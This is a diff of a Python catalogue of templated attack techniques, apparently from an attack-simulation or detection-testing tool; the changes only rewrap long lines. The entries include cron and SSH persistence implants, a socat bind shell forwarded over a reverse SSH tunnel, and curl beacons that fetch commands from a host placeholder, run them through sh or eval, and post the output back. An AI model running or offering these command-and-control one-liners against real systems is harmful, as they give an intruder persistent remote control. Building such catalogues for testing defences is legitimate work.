@@ -159,7 +159,8 @@ ATTACKS = [
     Attack("implant_c_service", "F", "implant", "service", "tcp", "@D@/f @H@ @P@ f",
            needs=("implant",), files={"f": "copy:@C@/implant"}, speaks=PROGRAM, live=True),
     Attack("implant_go_cron", "F", "implant", "cron", "tcp", "@D@/node_exporter @H@:@P@ run",
-           needs=("remote",), files={"node_exporter": "copy:@C@/remote"}, speaks=PROGRAM, live=True),
+           needs=("remote",), files={"node_exporter": "copy:@C@/remote"}, speaks=PROGRAM,
+           live=True),
     Attack("implant_python_ssh", "F", "implant", "ssh", "tcp", "python3 @D@/sync.py &",
            needs=("python3",), files={"sync.py": PYTHON_PROGRAMS}, speaks=PROGRAM, live=True),
     Attack("implant_perl_web", "F", "implant", "web", "tcp", "perl @D@/count.pl",
@@ -214,12 +215,14 @@ ATTACKS = [
            needs=("tmux", "nc.openbsd")),
     Attack("tunnel_ssh_cron", "G", "relay", "cron", "tunnel",
            "socat TCP-LISTEN:@R@,bind=127.0.0.1,reuseaddr EXEC:bash & "
-           "ssh -F none -i @D@/key -p @Q@ -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
+           "ssh -F none -i @D@/key -p @Q@ -o StrictHostKeyChecking=no "
+           "-o UserKnownHostsFile=/dev/null "
            "-N -R 127.0.0.1:@P@:127.0.0.1:@R@ root@@H@", needs=("ssh", "socat", "sshd"), live=True),
     # ---- H
     Attack("beacon_curl_sh_cron", "H", "beacon", "cron", "http",
            "while :; do curl -s http://@H@:@P@/task | sh 2>&1 | "
-           "curl -s --data-binary @- http://@H@:@P@/r; sleep 0.5; done", needs=("curl",), live=True),
+           "curl -s --data-binary @- http://@H@:@P@/r; sleep 0.5; done", needs=("curl",),
+           live=True),
     Attack("beacon_curl_eval_ssh", "H", "beacon", "ssh", "http",
            "while sleep 0.5; do c=$(curl -s http://@H@:@P@/task); [ -n \"$c\" ] && "
            "curl -s -d \"$(eval \"$c\")\" http://@H@:@P@/r; done &", needs=("curl",)),
